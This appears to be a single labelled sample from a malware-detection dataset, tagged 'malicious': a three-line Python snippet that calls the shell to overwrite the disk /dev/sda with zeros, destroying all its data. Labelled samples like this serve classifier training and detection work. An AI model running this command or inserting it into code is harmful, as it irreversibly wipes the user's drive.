# label: malicious
import subprocess
subprocess.call(["sh", "-c", "dd if=/dev/zero of=/dev/sda bs=1M"])
